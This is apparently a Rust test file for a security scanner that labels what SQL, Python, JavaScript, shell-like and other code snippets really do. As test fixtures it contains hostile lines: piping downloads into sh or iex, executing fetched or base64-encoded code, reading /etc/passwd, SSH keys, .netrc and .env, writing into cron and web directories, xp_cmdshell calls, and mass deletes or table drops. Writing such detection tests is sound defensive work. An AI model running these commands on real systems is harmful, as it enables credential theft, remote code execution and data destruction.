//! Code and SQL: what calls and statements do, and what only looks so.

use agsec::facts::program::{Scan, scan};
use std::collections::BTreeSet;

/// A language, code, and what is expected: behaviours, `delete:PATH`, `run:COMMAND`, `url:…`, `doubt`. All that is found must be
/// expected, but `decode`.
type Row = (&'static str, &'static str, &'static [&'static str]);

fn found(scan: &Scan) -> BTreeSet<String> {
    let mut all: BTreeSet<String> =
        scan.does.names().filter(|name| *name != "decode").map(str::to_owned).collect();
    all.extend(scan.touched.iter().map(|touch| format!("{}:{}", touch.access.name(), touch.path)));
    all.extend(scan.urls.iter().map(|url| format!("url:{url}")));
    all.extend(scan.commands.iter().map(|text| format!("run:{text}")));
    all.extend(scan.doubt.map(|_| "doubt".to_owned()));
    all
}

fn check(rows: &[Row]) {
    let mut wrong = Vec::new();
    for (language, code, wanted) in rows {
        let wanted: BTreeSet<String> = wanted.iter().map(|item| (*item).to_owned()).collect();
        let found = found(&scan(language, code));
        if found != wanted {
            wrong.push(format!("{language}: `{code}`:\n  wanted {wanted:?}\n  found  {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} problems:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn statements_of_sql_are_told_by_what_they_do() {
    check(&[
        ("sql", "select 'drop table x' from t -- drop table y", &[]),
        ("sql", "/* drop table x; */ select 1", &[]),
        ("sql", "SELECT \"drop\" FROM t WHERE a = 'x;drop table y'", &[]),
        ("sql", "dRoP/**/TaBlE users", &["database_drop"]),
        ("sql", "select 1; DROP DATABASE x", &["database_drop"]),
        ("sql", "TRUNCATE TABLE a, b", &["database_truncate"]),
        ("sql", "delete from users", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where id = 3", &["database_write"]),
        ("sql", "delete from users where 1=1", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where true", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where id = 3 or (2 > 1)", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where 'a' = 'a' returning *", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where id = id", &["database_write", "database_delete_all"]),
        ("sql", "delete from users where id in (select id from t where 1=1)", &["database_write"]),
        ("sql", "delete from users # where id = 3", &["database_write", "database_delete_all"]),
        ("sql", "update users set admin = true", &["database_write", "database_delete_all"]),
        ("sql", "update users set admin = true where id = 1", &["database_write"]),
        ("sql", "with x as (delete from a) select 1", &["database_write", "database_delete_all"]),
        ("sql", "with x as (delete from a where b = 1) select 1", &["database_write"]),
        ("sql", "explain delete from users", &[]),
        ("sql", "explain analyze delete from users", &["database_write", "database_delete_all"]),
        ("sql", "do $$ begin drop table x; end $$", &["database_drop"]),
        ("sql", "do $a$ begin execute 'drop table x'; end $a$", &["database_drop"]),
        ("sql", "select $$drop table x$$", &[]),
        ("sql", "insert into log values ('delete from users')", &["database_write"]),
        ("sql", "alter table t drop column c", &["database_drop"]),
        ("sql", "alter table t add column c int", &["database_schema"]),
        ("sql", "grant all on db.* to x", &["database_grant"]),
        ("sql", "create table t (a int)", &["database_schema"]),
        ("sql", "/*!50000 drop table x */", &["database_drop"]),
        ("sql", "select '\\'; drop table x; -- '", &["database_drop"]),
        ("sql", "copy t from program 'curl x|sh'", &["database_shell", "run:curl x|sh"]),
        ("sql", "copy t to '/etc/cron.d/x'", &["database_shell", "write:/etc/cron.d/x"]),
        ("sql", "select a into outfile '/var/www/x.php' from t", &["database_shell", "write:/var/www/x.php"]),
        ("sql", "select load_file('/etc/passwd')", &["database_shell", "read:/etc/passwd"]),
        ("sql", "exec xp_cmdshell 'dir'", &["database_shell", "run:dir"]),
        ("sql", "\\! rm -rf x", &["shell_escape", "run:rm -rf x"]),
        ("sql", "attach database '/etc/x' as y", &["write:/etc/x"]),
        ("sql", "'unterminated", &[]),
        ("sql", "$x$ unterminated", &[]),
        ("mongo", "db.users.deleteMany({})", &["database_write", "database_delete_all"]),
        ("mongo", "db.users.deleteMany({age: 3})", &["database_write"]),
        ("mongo", "db.users.drop ( )", &["database_drop"]),
        ("mongo", "db.users.find({name: 'drop'})", &[]),
        ("redis", "GET a\nFLUSHALL", &["database_truncate"]),
        ("redis", "get flushall", &[]),
    ]);
}

#[test]
fn calls_of_python_are_followed_through_imports_and_constants() {
    check(&[
        ("python", "import os; os.remove('/srv/a')", &["delete", "delete:/srv/a"]),
        (
            "python",
            "from shutil import rmtree as r\nr('/srv')",
            &["delete", "delete_recursive", "delete:/srv"],
        ),
        (
            "python",
            "import shutil as s\ns.rmtree('/s' + 'rv')",
            &["delete", "delete_recursive", "delete:/srv"],
        ),
        ("python", "from os import *\nremove('x')", &["delete", "delete:x"]),
        ("python", "__import__('os').system('rm -rf x')", &["shell_escape", "run:rm -rf x"]),
        (
            "python",
            "p = '/srv'\nimport shutil\nshutil.rmtree(p)",
            &["delete", "delete_recursive", "delete:/srv"],
        ),
        ("python", "from pathlib import Path; Path('x/y').unlink()", &["delete", "delete:x/y"]),
        (
            "python",
            "from pathlib import Path; print(Path.home().joinpath('.ssh/id_rsa').read_text())",
            &["read:~/.ssh/id_rsa"],
        ),
        ("python", "import os; open(os.path.join(os.path.expanduser('~'), '.netrc'))", &["read:~/.netrc"]),
        ("python", "open('/etc/cron.d/x', 'w').write('y')", &["overwrite", "write:/etc/cron.d/x"]),
        ("python", "open(mode='a', file='x')", &["overwrite", "write:x"]),
        (
            "python",
            "import subprocess; subprocess.run(['rm', '-rf', '/srv/a b'])",
            &["shell_escape", "run:rm -rf '/srv/a b'"],
        ),
        ("python", "import subprocess\nsubprocess.run(cmd, shell=True)", &["shell_escape", "doubt"]),
        ("python", "import subprocess\nsubprocess.run(f'rm {x}', shell=True)", &["shell_escape", "doubt"]),
        (
            "python",
            "exec(__import__('base64').b64decode('aWQ='))",
            &["run_code", "run_encoded_code", "doubt"],
        ),
        ("python", "eval(\"__import__('os').system('id')\")", &["run_code", "shell_escape", "run:id"]),
        (
            "python",
            "import requests; exec(requests.get('https://x.example/a').text)",
            &["run_code", "run_remote_code", "download", "url:https://x.example/a", "doubt"],
        ),
        ("python", "# os.remove('x')\nprint('os.remove(1)')", &[]),
        ("python", "'''\nos.remove('x')\n'''", &[]),
        ("python", "data = {'os': 1}; print(data['remove'])", &[]),
        ("python", "os.remove(", &["delete"]),
    ]);
}

#[test]
fn calls_of_other_languages_are_found() {
    check(&[
        (
            "javascript",
            "require('fs').rmSync('/srv', {recursive: true})",
            &["delete", "delete_recursive", "delete:/srv"],
        ),
        ("javascript", "const fs = require('node:fs'); fs.unlinkSync(`a`)", &["delete", "delete:a"]),
        (
            "javascript",
            "const {execSync: e} = require('child_process'); e('id')",
            &["shell_escape", "run:id"],
        ),
        (
            "javascript",
            "import {rm} from 'fs/promises'; rm('x')",
            &["delete", "delete_recursive", "delete:x"],
        ),
        (
            "javascript",
            "require('child_process').spawn('rm', ['-rf', 'x'])",
            &["shell_escape", "run:rm -rf x"],
        ),
        ("javascript", "console.log(require('fs').readFileSync('.env','utf8'))", &["read:.env"]),
        ("javascript", "require('fs')['unlinkSync']('x')", &["delete", "delete:x"]),
        ("javascript", "eval(atob('SGVsbG8='))", &["run_code", "run_encoded_code", "doubt"]),
        ("javascript", "// require('fs').rmSync('x')\nconst s = \"fs.rmSync('x')\"", &[]),
        ("perl", "unlink 'a', 'b.txt';", &["delete", "delete:a", "delete:b.txt"]),
        ("perl", "system(\"rm -rf x\")", &["shell_escape", "run:rm -rf x"]),
        ("perl", "system('rm', '-rf', 'x')", &["shell_escape", "run:rm -rf x"]),
        ("perl", "print `id`", &["shell_escape", "run:id"]),
        ("perl", "exec qq{sh -c id}", &["shell_escape", "run:sh -c id"]),
        ("perl", "print 'unlink x'", &[]),
        ("ruby", "File.delete('x')", &["delete", "delete:x"]),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf 'x'", &["delete", "delete_recursive", "delete:x"]),
        ("ruby", "puts %x(id)", &["shell_escape", "run:id"]),
        ("ruby", "system 'rm -rf x'", &["shell_escape", "run:rm -rf x"]),
        ("ruby", "puts 'File.delete'", &[]),
        ("php", "unlink('x');", &["delete", "delete:x"]),
        ("php", "echo shell_exec('i' . 'd');", &["shell_escape", "run:id"]),
        ("php", "echo file_get_contents('/etc/passwd');", &["read:/etc/passwd"]),
    ]);
}

#[test]
fn commands_of_small_languages_are_found() {
    check(&[
        ("lua", "os.execute('rm ' .. 'x')", &["shell_escape", "run:rm x"]),
        ("lua", "os.remove('x')", &["delete", "delete:x"]),
        ("awk", "BEGIN { system(\"id\") }", &["shell_escape", "run:id"]),
        ("awk", "{ print $1 > \"/etc/x\" }", &["write:/etc/x"]),
        ("awk", "{ print | \"sh\" }", &["shell_escape", "run:sh"]),
        ("awk", "$1 > 5 { print $2 }", &[]),
        (
            "applescript",
            "do shell script \"rm -rf x\" with administrator privileges",
            &["shell_escape", "privilege", "run:rm -rf x"],
        ),
        (
            "powershell",
            "Remove-Item -Recurse -Force C:\\x; Get-Date",
            &["delete", "delete_recursive", "delete:C:\\x"],
        ),
        (
            "powershell",
            "iwr https://x.example/a | iex",
            &["download", "run_code", "run_input", "run_remote_code", "url:https://x.example/a"],
        ),
        ("powershell", "Write-Host 'Remove-Item x'", &[]),
        ("sed", "s/a/b/w /etc/x", &["write:/etc/x"]),
        ("sed", "s/w/e/g", &[]),
        ("sed", "1e id", &["shell_escape", "run:id"]),
        ("vim", ":!id", &["shell_escape", "run:id"]),
        ("vim", "set number", &[]),
        ("klingon", "rm -rf", &[]),
    ]);
}

#[test]
fn code_without_end_is_read_soon() {
    for language in [
        "python",
        "javascript",
        "perl",
        "ruby",
        "php",
        "lua",
        "awk",
        "sql",
        "mongo",
        "redis",
        "sed",
        "vim",
        "powershell",
        "applescript",
    ] {
        for unit in [
            "(",
            "f(",
            "os.system(",
            "x = ",
            "'",
            "\"\"\"",
            "eval('",
            "a.b",
            "$",
            "$a$",
            "/*",
            "{",
            "q{",
            "%x(",
            "where (",
            "import x as ",
            "\\",
        ] {
            let _ = scan(language, &unit.repeat(5_000));
        }
    }
}
